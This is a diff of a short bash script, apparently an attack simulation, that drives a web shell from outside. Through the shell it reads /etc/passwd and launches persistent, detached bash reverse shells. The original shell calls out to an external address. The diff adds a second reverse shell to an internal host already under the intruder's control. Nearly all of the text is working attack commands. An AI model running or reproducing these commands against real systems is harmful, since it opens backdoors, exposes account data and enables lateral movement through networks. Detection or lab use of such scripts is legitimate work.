@@ -1,5 +1,6 @@
 #!/bin/bash
-# The intruder posts commands to the web shell, from outside: the last one opens a reverse shell that stays.
+# The intruder posts commands to the web shell, from outside: the last ones open reverse shells that stay, one to the
+# outside and one to a neighbour that is his already.
 # FROM, TO: addresses.
 set -eu
 : "${FROM:?}" "${TO:?}"
@@ -10,3 +11,4 @@ post id
 post 'uname -a'
 post 'cat /etc/passwd' >/dev/null
 post 'nohup setsid bash -c "exec bash -i >& /dev/tcp/203.0.113.66/4444 0>&1" >/dev/null 2>&1 </dev/null &'
+post 'nohup setsid bash -c "exec bash -i >& /dev/tcp/10.20.1.99/4444 0>&1" >/dev/null 2>&1 </dev/null &'
